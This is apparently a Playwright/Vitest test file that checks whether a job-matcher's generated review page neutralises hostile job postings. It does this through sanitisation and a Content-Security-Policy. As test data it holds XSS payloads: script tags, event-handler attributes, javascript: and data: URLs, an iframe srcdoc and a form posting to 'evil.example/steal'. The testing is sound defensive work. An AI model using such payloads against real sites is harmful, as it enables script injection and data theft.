import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import type { BrowserContext, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LazyBrowser } from '../../src/infra/browser.js';
import { listCompleteApplications, writeApplication } from '../../src/output/application.js';
import { writeReviewPage } from '../../src/output/review-page.js';
import { makeListing, makeRecord, makeSummary } from './fixtures/records.js';

const HOSTILE_DESCRIPTION = `
<h1>About the role</h1>
<p>We build <strong>APIs</strong>. <a href="https://example.com/team">Meet the team</a></p>
<script>window.__pwned = 'script'; document.title = 'pwned';</script>
<img src="x" onerror="window.__pwned = 'img'">
<p><a id="js" href="javascript:window.__pwned = 'link'">apply here</a></p>
<p><a href="data:text/html,<script>alert(1)</script>">data link</a></p>
<iframe srcdoc="<script>parent.__pwned = 'iframe'</script>"></iframe>
<svg onload="window.__pwned = 'svg'"><circle r="5"></circle></svg>
<div onmouseover="window.__pwned = 'hover'">hover me</div>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="q"></form>
<object data="x.swf"></object>
`;

const runId = '2026-11-24T03-22-58Z';
let runDir: string;
let browser: LazyBrowser;
let context: BrowserContext;
let page: Page;
const pageErrors: string[] = [];

beforeAll(async () => {
  runDir = await mkdtemp(join(tmpdir(), 'review-'));
  const hostile = makeRecord(
    makeListing({
      jobId: '666',
      company: 'Evil <img src=x onerror="window.__pwned=\'company\'">',
      title: `</script><script>window.__pwned = 'title'</script> Engineer`,
      url: "javascript:window.__pwned = 'url'",
      description: { format: 'html', content: HOSTILE_DESCRIPTION },
    }),
    72,
    runId,
  );
  const acme = makeRecord(makeListing({ jobId: '1', title: 'Backend Engineer' }), 91, runId);
  const globex = makeRecord(
    makeListing({ jobId: '2', title: 'Data Engineer', company: 'Globex', board: 'globex' }),
    64,
    runId,
  );
  const letters = new Map<string, string>();
  for (const record of [hostile, acme, globex]) {
    const letter = `Dear ${record.company},\n\n<script>window.__pwned = 'letter'</script> I apply for ${record.title}.`;
    letters.set(record.id, letter);
    await writeApplication(
      runDir,
      record,
      [
        { name: 'resume.md', data: '# Resume\n' },
        { name: 'cover-letter.md', data: letter },
      ],
      'description',
    );
  }
  const { applications } = await listCompleteApplications(runDir);
  const summary = makeSummary({
    runId,
    applications: applications.map((a) => ({
      id: a.record.id,
      company: a.record.company,
      title: a.record.title,
      score: a.record.score.total,
      folder: a.folder,
    })),
  });
  await writeReviewPage(
    runDir,
    summary,
    // As the pipeline may hold them: without the file list, which the page reads from disk.
    applications.map((a) => ({ ...a.record, files: [] })),
    letters,
  );

  browser = new LazyBrowser({ headless: true, timeout_ms: 30_000, max_pages: 2 });
  context = await browser.newContext();
  page = await context.newPage();
  page.on('pageerror', (error) => pageErrors.push(error.message));
  await page.goto(pathToFileURL(join(runDir, 'index.html')).href);
});

afterAll(async () => {
  await context?.close();
  await browser?.close();
  await rm(runDir, { recursive: true, force: true });
});

describe('review page in Chromium', () => {
  it('runs nothing from a hostile job, and keeps the hostile text visible as text', async () => {
    // Open the collapsed description so its links and handlers can be hovered and clicked.
    await page.locator('article', { hasText: 'Evil' }).locator('summary', { hasText: 'Description' }).click();
    await page.hover('text=hover me');
    await page.click('text=apply here');
    await page.click('text=data link').catch(() => undefined);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(await page.title()).toBe(`job-matcher ${runId}`);
    expect(await page.locator('script').count()).toBe(1);
    for (const tag of ['iframe', 'img', 'svg', 'form', 'object', 'main style']) {
      expect(await page.locator(tag).count(), tag).toBe(0);
    }
    const handlers = await page.evaluate(() =>
      Array.from(document.querySelectorAll('*')).flatMap((el) =>
        Array.from(el.attributes)
          .filter((a) => a.name.startsWith('on'))
          .map((a) => `${el.tagName}.${a.name}`),
      ),
    );
    expect(handlers).toEqual([]);
    const hrefs = await page
      .locator('a[href]')
      .evaluateAll((links) => links.map((a) => (a as HTMLAnchorElement).href));
    expect(hrefs.filter((href) => !/^(https?|file):/.test(href))).toEqual([]);
    expect(await page.locator('h2', { hasText: '</script><script>' }).count()).toBe(1);
    expect(await page.locator('body').isVisible()).toBe(true);
    expect(pageErrors).toEqual([]);
  });

  it('has a Content-Security-Policy that would stop an injected handler even past the sanitizer', async () => {
    const violation = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), {
            once: true,
          });
          const div = document.createElement('div');
          div.setAttribute('onclick', "window.__pwned = 'csp'");
          document.body.append(div);
          div.click();
        }),
    );
    expect(violation).toMatch(/^script-src/);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  });

  it('keeps the safe parts of the description: formatting and http links', async () => {
    const card = page.locator('article', { hasText: 'Evil' });
    expect(await card.locator('.description strong', { hasText: 'APIs' }).count()).toBe(1);
    expect(await card.locator('.description a', { hasText: 'Meet the team' }).getAttribute('href')).toBe(
      'https://example.com/team',
    );
  });

  it('lists applications by score with reasons, cover letter and working file links', async () => {
    const titles = await page.locator('article h2').allTextContents();
    expect(titles.map((t) => t.trim().slice(0, 2))).toEqual(['91', '72', '64']);
    const acme = page.locator('article', { hasText: 'Backend Engineer' });
    expect(await acme.locator('.reasons li').first().textContent()).toBe(
      '+91 role: title matches "Backend Engineer"',
    );
    expect(await acme.locator('.letter').textContent()).toContain(
      "<script>window.__pwned = 'letter'</script>",
    );
    expect(await acme.locator('h2 a').getAttribute('href')).toBe('https://boards.greenhouse.io/acme/jobs/1');
    const resumeHref = await acme
      .locator('.files a', { hasText: 'resume.md' })
      .evaluate((a) => (a as HTMLAnchorElement).href);
    expect(await acme.locator('.files a').allTextContents()).toEqual([
      'cover-letter.md',
      'description.md',
      'job.json',
      'resume.md',
    ]);
    const resumePath = fileURLToPath(resumeHref);
    expect(existsSync(resumePath)).toBe(true);
    expect(await readFile(resumePath, 'utf8')).toBe('# Resume\n');
    // The hostile posting URL is not a link at all.
    expect(await page.locator('article', { hasText: 'Evil' }).locator('h2 a').count()).toBe(0);
  });

  it('filters by company and by minimum score with its own inline script', async () => {
    expect(await page.locator('#shown').textContent()).toBe('3 of 3 shown');
    await page.selectOption('#company', { label: 'Globex' });
    expect(await page.locator('article.app:visible').count()).toBe(1);
    expect(await page.locator('article.app:visible h2').textContent()).toContain('Data Engineer');
    expect(await page.locator('article', { hasText: 'Backend Engineer' }).isHidden()).toBe(true);
    await page.selectOption('#company', '');
    await page.fill('#min-score', '70');
    expect(await page.locator('#shown').textContent()).toBe('2 of 3 shown');
    expect(await page.locator('article', { hasText: 'Data Engineer' }).isHidden()).toBe(true);
    await page.fill('#min-score', '0');
    expect(await page.locator('article.app:visible').count()).toBe(3);
  });
});
